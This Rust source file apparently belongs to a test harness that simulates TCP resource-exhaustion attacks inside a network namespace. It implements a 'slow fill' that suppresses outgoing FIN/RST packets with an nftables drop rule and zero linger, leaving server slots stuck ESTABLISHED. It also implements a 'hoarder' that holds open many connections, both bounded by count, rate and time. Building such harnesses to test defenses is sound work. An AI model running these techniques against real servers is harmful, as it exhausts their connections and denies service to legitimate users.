//! Attacks that complete their handshakes, as those of DOMAIN.md 1 and 3 do. Bounded in number and in time.

use std::{
    io,
    net::{IpAddr, SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use rustix::{
    event::{PollFd, PollFlags, poll},
    io::Errno,
    net::{AddressFamily, SocketFlags, SocketType, sockopt},
};

use crate::{Result, netns::Namespace};

/// An attacker's patience with an unanswered connect; the kernel sends its second SYN after one second.
const PATIENCE: Duration = Duration::from_millis(1500);

/// How much of an attack, how fast, and when it ends at the latest.
#[derive(Debug, Clone, Copy)]
pub struct Pace {
    /// Attempts in all.
    pub count: usize,
    /// Attempts a second; `u32::MAX` is as fast as the machine can.
    pub per_second: u32,
    /// The end, whatever was reached by then.
    pub within: Duration,
}

/// What an attack did.
#[derive(Debug, Clone, Default)]
pub struct Tally {
    /// Attempts.
    pub tried: usize,
    /// Those that did what the attacker wanted.
    pub made: usize,
    /// The first error he met.
    pub first_failure: Option<String>,
}

/// A running attack. Dropping it ends it, and what it holds open.
#[derive(Debug)]
pub struct Attack {
    made: Arc<AtomicUsize>,
    tried: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    done: Arc<AtomicBool>,
    thread: Option<JoinHandle<Tally>>,
}

impl Attack {
    /// How many attempts have succeeded so far.
    pub fn made(&self) -> usize {
        self.made.load(Ordering::Relaxed)
    }

    /// How many attempts there were so far.
    pub fn tried(&self) -> usize {
        self.tried.load(Ordering::Relaxed)
    }

    /// Whether its last attempt is over; what it holds open is still held.
    pub fn done(&self) -> bool {
        self.done.load(Ordering::Relaxed)
    }

    /// Waits for its last attempt, then lets go of what it held.
    pub fn finish(self) -> Tally {
        // The pace bounds the wait.
        while !self.done() {
            thread::sleep(Duration::from_millis(5));
        }
        self.end()
    }

    /// Ends it now.
    pub fn end(mut self) -> Tally {
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().expect("only taken at the end");
        thread.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic))
    }

    /// Runs `attempt` with the attempt's number at the pace; what it returns is held until the end.
    pub(crate) fn start<Held: Send + 'static>(
        namespace: &Namespace,
        name: &str,
        pace: Pace,
        mut attempt: impl FnMut(usize) -> io::Result<Held> + Send + 'static,
    ) -> Result<Self> {
        let [stop, done] = [(); 2].map(|()| Arc::new(AtomicBool::new(false)));
        let [made, tried] = [(); 2].map(|()| Arc::new(AtomicUsize::new(0)));
        let (until, over, hits, attempts) = (stop.clone(), done.clone(), made.clone(), tried.clone());
        let thread = namespace.thread(name, move || {
            let start = Instant::now();
            let mut tally = Tally::default();
            let mut held = Vec::new();
            while tally.tried < pace.count && start.elapsed() < pace.within && !until.load(Ordering::Relaxed)
            {
                let due = Duration::from_secs_f64(tally.tried as f64 / f64::from(pace.per_second));
                let early = due.saturating_sub(start.elapsed());
                if early > Duration::ZERO {
                    thread::sleep(early.min(Duration::from_millis(50)));
                    continue;
                }
                match attempt(tally.tried) {
                    Ok(kept) => {
                        held.push(kept);
                        tally.made += 1;
                        hits.store(tally.made, Ordering::Relaxed);
                    }
                    Err(error) => drop(tally.first_failure.get_or_insert_with(|| error.to_string())),
                }
                tally.tried += 1;
                attempts.store(tally.tried, Ordering::Relaxed);
            }
            over.store(true, Ordering::Relaxed);
            while !until.load(Ordering::Relaxed) {
                thread::sleep(Duration::from_millis(10));
            }
            tally
        })?;
        Ok(Self { made, tried, stop, done, thread: Some(thread) })
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        let _ = self.thread.take().map(JoinHandle::join);
    }
}

/// The slow fill of DOMAIN.md 1: connects, and goes without a word, for its FIN and RST never leave the house. Against
/// a listener that defers, each leaves a slot that says ESTABLISHED for five days and soon has no socket.
///
/// `sources` take turns; each must be an address of the namespace.
///
/// # Errors
/// When `nft` refuses the rule that swallows FIN and RST.
pub fn slow_fill(
    namespace: &Namespace,
    sources: Vec<IpAddr>,
    target: SocketAddr,
    pace: Pace,
) -> Result<Attack> {
    swallow_goodbyes(namespace)?;
    Attack::start(namespace, "slow fill", pace, move |number| {
        let stream = connect_from(SocketAddr::new(sources[number % sources.len()], next_port()), target)?;
        // No orphan socket is left to answer the server's repeated SYN-ACK: such an answer ends the deferral, and the
        // server would accept the connection after all.
        sockopt::set_socket_linger(&stream, Some(Duration::ZERO))?;
        Ok(())
    })
}

/// The hoarder of DOMAIN.md 3: real connections, held open until the attack ends. Each says one line first, so that
/// deferring listeners accept it too. His goodbyes are swallowed as well: a hoarder who is thrown out does not help.
///
/// # Errors
/// When `nft` refuses the rule that swallows FIN and RST.
pub fn hoard(namespace: &Namespace, sources: Vec<IpAddr>, target: SocketAddr, pace: Pace) -> Result<Attack> {
    swallow_goodbyes(namespace)?;
    Attack::start(namespace, "hoarder", pace, move |number| {
        let mut stream = connect_from(SocketAddr::new(sources[number % sources.len()], next_port()), target)?;
        io::Write::write_all(&mut stream, b"mine\n")?;
        Ok(stream)
    })
}

/// Drops every FIN and RST on its way out. Loading it again changes nothing. It names no `ct`, so the attacker's own
/// namespace tracks nothing.
///
/// # Errors
/// When `nft` refuses it.
pub fn swallow_goodbyes(namespace: &Namespace) -> Result<()> {
    namespace.nft(
        "table inet attack\n\
         delete table inet attack\n\
         table inet attack {\n\
           chain quiet {\n\
             type filter hook output priority 0;\n\
             tcp flags & (fin | rst) != 0 counter drop\n\
           }\n\
         }\n",
    )
}

/// Below the kernel's own choices, and none twice in 22,000: a SYN with the ports of a request that is still in SYN_RECV
/// gets no SYN-ACK (RFC 793: an ACK instead), and one with the ports of a dead slot revives it.
fn next_port() -> u16 {
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    10_000 + (NEXT.fetch_add(1, Ordering::Relaxed) % 22_000) as u16
}

/// A non-blocking TCP socket bound to `source`, on its way to `target`.
pub(crate) fn connecting(source: SocketAddr, target: SocketAddr) -> io::Result<std::os::fd::OwnedFd> {
    let family = if target.is_ipv4() { AddressFamily::INET } else { AddressFamily::INET6 };
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    let socket = rustix::net::socket_with(family, SocketType::STREAM, flags, None)?;
    rustix::net::bind(&socket, &source)?;
    match rustix::net::connect(&socket, &target) {
        Ok(()) | Err(Errno::INPROGRESS) => Ok(socket),
        Err(error) => Err(error.into()),
    }
}

fn connect_from(source: SocketAddr, target: SocketAddr) -> io::Result<TcpStream> {
    let socket = connecting(source, target)?;
    let patience = rustix::event::Timespec::try_from(PATIENCE).expect("a second and a half fits");
    if poll(&mut [PollFd::new(&socket, PollFlags::OUT)], Some(&patience))? == 0 {
        return Err(io::Error::new(io::ErrorKind::TimedOut, format!("no answer within {PATIENCE:?}")));
    }
    sockopt::socket_error(&socket)??;
    let stream = TcpStream::from(socket);
    stream.set_nonblocking(false)?;
    Ok(stream)
}
